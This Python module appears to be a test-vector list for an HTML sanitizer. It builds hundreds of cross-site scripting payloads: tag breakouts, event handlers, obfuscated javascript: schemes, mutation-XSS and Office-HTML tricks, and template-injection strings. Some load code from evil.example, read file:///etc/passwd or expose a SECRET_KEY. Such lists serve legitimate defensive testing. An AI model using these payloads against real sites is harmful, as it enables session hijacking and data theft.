"""Scripts in disguise: what somebody would write into a field so that it runs on somebody else's screen.

Each calls `hit()`, asks a foreign host, or both; all are our own combinations of element, event, quoting and coding.
"""

from __future__ import annotations

import itertools

EVIL = "https://evil.example"

_OUT_OF = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "]]>",
    "</style>",
    "`>",
    '"}</script>',
    '\\">',
)
_SELF_STARTING = (
    "<img src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<svg/onload=hit()>",
    "<body onload=hit()>",
    "<iframe src=javascript:hit()>",
    "<iframe srcdoc='<script>parent.hit()</script>'>",
    "<script>hit()</script>",
    "<script src=//evil.example/x.js></script>",
    "<input autofocus onfocus=hit()>",
    "<details open ontoggle=hit()>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()>",
    "<object data=javascript:hit()>",
    "<embed src=javascript:hit()>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<base href=//evil.example/>",
    "<style>@import'//evil.example/x'</style>",
    "<form><button formaction=javascript:hit() autofocus>",
    "<marquee onstart=hit()>",
)
_BROKEN_OUT = tuple(f"{out}{start}" for out, start in itertools.product(_OUT_OF[1:7], _SELF_STARTING[:8]))
_EVENTS = (
    "onmouseover", "onclick", "onfocus", "onblur", "onanimationstart", "ontransitionend", "onpointerenter", "onwheel",
    "onpaste", "oncopy", "onbeforeinput", "onscroll", "ontoggle", "onbegin", "onload", "onerror",
)  # fmt: skip
_IN_ATTRIBUTE = tuple(
    f"{quote} {event}=hit() {quote}" for quote, event in itertools.product(('"', "'", "`"), _EVENTS[:8])
) + tuple(f'x" {event}="hit()' for event in _EVENTS)
_SCHEMES = (
    "javascript:hit()", "JaVaScRiPt:hit()", "java\tscript:hit()", "java\nscript:hit()", "\x01javascript:hit()",
    " javascript:hit()", "javascript&colon;hit()", "&#106;avascript:hit()", "&#x6A;avascript:hit()",
    "data:text/html,<script>parent.hit()</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    "vbscript:hit()", "feed:javascript:hit()", "view-source:javascript:hit()", "blob:hit", "//evil.example/x",
    "javascript://%0ahit()", "ｊavascript:hit()", "jar:javascript:hit()!", "file:///etc/passwd",
)  # fmt: skip
_LINKED = tuple(f'<a href="{scheme}">链接</a>' for scheme in _SCHEMES)
_PICTURED = tuple(f'<img src="{scheme}" alt="x">' for scheme in _SCHEMES[:8])
_CASED = (
    "<ScRiPt>hit()</sCrIpT>", "<scr<script>ipt>hit()</scr</script>ipt>", "<script\x00>hit()</script>",
    "<script\n>hit()</script\n>", "<script/x>hit()</script>", "<\x00script>hit()</script>", "<<script>hit()//<</script>",
    "<script>hit()<!--", "<img src=x onerror=&#104;it()>", "<img src=x onerror=\"&#x68;it()\">", "<img/src=x/onerror=hit()>",
    "<img\nsrc=x\nonerror\n=\nhit()>", "<img src=x onerror=hit`1`>", "<img src=`x` onerror=hit()>", "<svg><script>hit()",
    "<svg><script xlink:href=//evil.example/x.js />", "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:hit()><text>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload=hit()>#x'>",
    "<svg><foreignObject><iframe src=javascript:hit()></foreignObject></svg>", "<svg><set attributeName=onload to=hit()>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>", "<math><mi//xlink:href=\"data:x,<script>hit()</script>\">",
    "<math href=javascript:hit()>x</math>", "<template><script>hit()</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=hit()>\">", "<xmp><p title=\"</xmp><img src=x onerror=hit()>\">",
    "<style><style/><img src=x onerror=hit()>", "<title><img title=\"</title><img src=x onerror=hit()>\">",
    "<textarea><img title='</textarea><img src=x onerror=hit()>'>", "<!--><img src=x onerror=hit()>-->",
    "<!--[if gte mso 9]><img src=x onerror=hit()><![endif]-->", "<![CDATA[<img src=x onerror=hit()>]]>",
    "<?xml version='1.0'?><img src=x onerror=hit()>", "<% hit() %><img src=x onerror=hit()>", "<a/href=javascript:hit()>x",
    "<table background=javascript:hit()>", "<table><td background='//evil.example/x'>", "<p style=background:url(//evil.example/x)>",
    "<p style=\"width:expression(hit())\">", "<p style='behavior:url(//evil.example/x.htc)'>", "<div style=\"-moz-binding:url(//evil.example/x)\">",
    "<link rel=prefetch href=//evil.example/x>", "<img srcset='//evil.example/x 2x'>", "<img src=//evil.example/x.gif>",
    "<video poster=//evil.example/x>", "<audio src=//evil.example/x autoplay>", "<picture><source srcset=//evil.example/x><img src=x></picture>",
    "<frameset onload=hit()><frame src=javascript:hit()>", "<isindex type=image src=x onerror=hit()>", "<keygen autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()>", "<button popovertarget=x onbeforetoggle=hit()>", "<dialog open onclose=hit()>",
    "<x contenteditable onblur=hit()>x", "<x tabindex=1 autofocus onfocus=hit()>x", "<x onpointerrawupdate=hit()>x",
    "<form id=x></form><button form=x formaction=javascript:hit()>x", "<input type=image src=//evil.example/x>",
    "<img name=getElementById src=x onerror=hit()>", "<a id=location href=//evil.example>x</a>", "<form name=querySelector></form><svg onload=hit()>",
)  # fmt: skip
_WORD = (
    "<o:p><img src=x onerror=hit()></o:p>", "<v:imagedata src=\"//evil.example/x\" o:title=\"x\"/>",
    "<p class=MsoNormal style='mso-element:field-begin;background:url(//evil.example/x)'>字</p>",
    "<!--[if supportFields]><script>hit()</script><![endif]-->", "<w:WordDocument><w:View onload=hit()>Normal</w:View></w:WordDocument>",
    "<xml><o:OfficeDocumentSettings/><script>hit()</script></xml>", "<st1:place w:st=\"on\" onmouseover=hit()>地</st1:place>",
    "<span lang=EN-US style='mso-ansi-language:\"</style><img src=x onerror=hit()>\"'>x</span>",
)  # fmt: skip
_NOT_HTML = (
    "{{constructor.constructor('hit()')()}}", "{% load static %}{{ settings.SECRET_KEY }}", "${hit()}", "#{hit()}", "<%= hit() %>",
    "[[hit()]]", "%3Cscript%3Ehit()%3C/script%3E", "%253Cscript%253Ehit()%253C/script%253E", "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "\\x3cscript\\x3ehit()", "＜script＞hit()＜/script＞", "ʺ><svg onload=hit()>", "&lt;script&gt;hit()&lt;/script&gt;", "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "';hit();//", "\";hit();//", "\\';hit();//", "\u2028hit()//", "\u2029hit()//", "javascript:/*--></title></style></textarea></script><svg/onload=hit()>",
    "\u202e>tpircs/<()tih>tpircs<", "<\u200bscript>hit()</script>", "𝓼cript", "<ſcript>hit()</ſcript>", "<ımg src=x onerror=hit()>",
)  # fmt: skip

VECTORS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (*_SELF_STARTING, *_BROKEN_OUT, *_IN_ATTRIBUTE, *_SCHEMES, *_LINKED, *_PICTURED, *_CASED, *_WORD, *_NOT_HTML)
    )
)
